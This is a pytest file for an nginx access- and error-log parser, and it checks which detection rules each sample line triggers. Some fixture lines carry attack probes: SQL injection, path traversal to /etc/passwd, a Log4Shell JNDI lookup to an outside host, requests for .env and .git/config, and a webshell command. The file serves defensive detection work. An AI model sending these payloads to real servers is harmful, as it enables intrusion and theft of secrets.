"""nginx: access log with what sites add to it, and error log, after its documentation.

https://nginx.org/en/docs/http/ngx_http_log_module.html, https://nginx.org/en/docs/ngx_core_module.html#error_log
"""

# ruff: noqa: E501 (a line of a log is a line)

import pytest
from support.web_lines import Parts, Told, fulfilled, parts, read, told

#: (line, what it tells, the rules that it fulfils by itself; none: harmless, or counted only)
LINES: tuple[tuple[str, Told, list[str]], ...] = (
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /shop?q=select+a+gift+from+the+union+collection HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /docs/.env.example HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.env HTTP/1.1" 404 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.git/config HTTP/1.1" 200 265 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Secrets handed out by the web server", "Web probe for secrets"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /p?id=1%27%20UNION%20SELECT%20NULL,NULL--%20 HTTP/1.1" 500 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["SQL injection probe"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1" 400 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Path traversal probe"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /?x=$%7Bjndi:ldap://203.0.113.66/a%7D HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Log4Shell probe"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "POST /wp-login.php HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Web login refused", "Web login that may have been refused"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "POST /xmlrpc.php HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["WordPress XML-RPC called"],
    ),
    (
        '203.0.113.7 - root [01/Mar/2026:03:11:26 +0000] "GET /admin/ HTTP/1.1" 401 179 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "root", "failure", "http_request"),
        ["Basic authentication refused"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /wp-content/uploads/x.php?cmd=id HTTP/1.1" 200 54 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        ["Webshell used"],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" "-"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '192.0.2.20 - - [01/Mar/2026:03:11:26 +0000] "GET /health HTTP/1.1" 200 2 "-" "check_http/v2.3.3 (monitoring-plugins 2.3.3)" rt=0.001',
        ("webserver", "192.0.2.20", "", "success", "http_request"),
        [],
    ),
    (
        '10.0.0.2 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0" "198.51.100.9, 203.0.113.8"',
        ("webserver", "10.0.0.2", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "x\\x22 200 1 \\x22-\\x22"',
        ("webserver", "203.0.113.7", "", "success", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01" 400 157 "-" "-"',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        [],
    ),
    (
        '203.0.113.7 - bob [01/Jan/2001:00:00:00 +0000] [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        ("webserver", "203.0.113.7", "bob [01/Jan/2001:00:00:00 +0000]", "success", "http_request"),
        ["Web login accepted"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 open() "/var/www/favicon.ico" failed (2: No such file or directory), client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_missing"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 open() "/var/www/x, client: 192.0.2.99, server: shop.example" failed (2: No such file or directory), client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "", "", "failure", "http_missing"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 access forbidden by rule, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_denied"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 user "bob": password mismatch, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "bob", "failure", "http_auth"),
        ["Web password refused, says the error log"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 user "eve" was not found in "/etc/nginx/htpasswd", client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "eve", "failure", "http_auth"),
        ["Web password refused, says the error log"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 no user/password was provided for basic authentication, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_auth"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 limiting requests, excess: 20.180 by zone "one", client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_limited"),
        ["Web request held back"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 limiting connections by zone "addr", client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_limited"),
        ["Web request held back"],
    ),
    (
        '2026/03/01 03:11:26 [warn] 812#812: *17 delaying request, excess: 0.580, by zone "one", client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "unknown", "http_limited"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 connect() failed (111: Connection refused) while connecting to upstream, client: 203.0.113.7, server: shop.example, request: "GET /cart HTTP/1.1", upstream: "http://127.0.0.1:8080/cart", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 203.0.113.7, server: _, request: "GET / HTTP/1.1", upstream: "fastcgi://unix:/run/php/php-fpm.sock:", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 no live upstreams while connecting to upstream, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 connect() to unix:/run/php/php-fpm.sock failed (2: No such file or directory) while connecting to upstream, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "upstream_failure"),
        ["Web server's backend does not answer"],
    ),
    (
        '2026/03/01 03:11:26 [info] 812#812: *17 client sent "Content-Length" and "Transfer-Encoding" headers at the same time while reading client request headers, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_malformed"),
        ["Request with two lengths"],
    ),
    (
        '2026/03/01 03:11:26 [info] 812#812: *17 client sent invalid method while reading client request line, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_malformed"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 FastCGI sent in stderr: "PHP message: upstream timed out, client: 192.0.2.99, server: x" while reading response header from upstream, client: 203.0.113.7, server: shop.example, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "", "", "unknown", "web_error"),
        [],
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 limiting requests, excess: 20.180 by zone "one", client: 203.0.113.7, server: _, request: "GET / HTTP/1.1", host: "x", referrer: "x, client: 192.0.2.99, server: y"',
        ("webserver_error/nginx/nginx", "203.0.113.7", "", "failure", "http_limited"),
        ["Web request held back"],
    ),
    (
        "2026/03/01 03:11:26 [alert] 812#812: worker process 900 exited on signal 11 (core dumped)",
        ("webserver_error/nginx/nginx", "", "", "failure", "web_crash"),
        ["Web server worker died"],
    ),
    (
        "2026/03/01 03:11:26 [notice] 812#812: signal process started",
        ("webserver_error/nginx/nginx", "", "", "unknown", "web_error"),
        [],
    ),
    (
        'Mar  1 03:11:26 web1 nginx: 2026/03/01 03:11:26 [error] 812#812: *17 user "bob": password mismatch, client: 2001:db8::7, server: _, request: "GET / HTTP/1.1", host: "shop.example"',
        ("webserver_error/nginx/nginx", "2001:db8::7", "bob", "failure", "http_auth"),
        ["Web password refused, says the error log"],
    ),
    (
        'Mar  1 03:11:26 web1 nginx: 203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /.env HTTP/1.1" 404 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("webserver", "203.0.113.7", "", "failure", "http_request"),
        ["Web probe for secrets"],
    ),
)


@pytest.mark.parametrize(("line", "tells", "rules"), LINES)
def test_lines(line: str, tells: Told, rules: list[str]) -> None:
    """Each line tells who, what and how it ended, and fulfils just these rules."""
    parsed = read(line)
    assert told(parsed) == tells
    assert fulfilled(line, parsed) == rules


#: (line, what it tells of the request)
REQUESTS: tuple[tuple[str, Parts], ...] = (
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
        ("GET", "/", 200, 612, "Mozilla/5.0 (X11; Linux x86_64)", None, None),
    ),
    (
        '192.0.2.20 - - [01/Mar/2026:03:11:26 +0000] "GET /health HTTP/1.1" 200 2 "-" "check_http/v2.3.3 (monitoring-plugins 2.3.3)" rt=0.001',
        ("GET", "/health", 200, 2, "check_http/v2.3.3 (monitoring-plugins 2.3.3)", 0.001, None),
    ),
    (
        '203.0.113.7 - - [01/Mar/2026:03:11:26 +0000] "GET /a?b=c HTTP/1.1" 200 9 "-" "curl/8.5" 0.120 host=shop.example',
        ("GET", "/a", 200, 9, "curl/8.5", 0.12, "shop.example"),
    ),
    (
        '2026/03/01 03:11:26 [error] 812#812: *17 connect() failed (111: Connection refused) while connecting to upstream, client: 203.0.113.7, server: shop.example, request: "GET /cart HTTP/1.1", upstream: "http://127.0.0.1:8080/cart", host: "shop.example"',
        ("GET", "/cart", None, None, None, None, "shop.example"),
    ),
)


@pytest.mark.parametrize(("line", "tells"), REQUESTS)
def test_requests(line: str, tells: Parts) -> None:
    """Method, path, status, size, user agent, duration and host are found where the line has them."""
    assert parts(read(line)) == tells
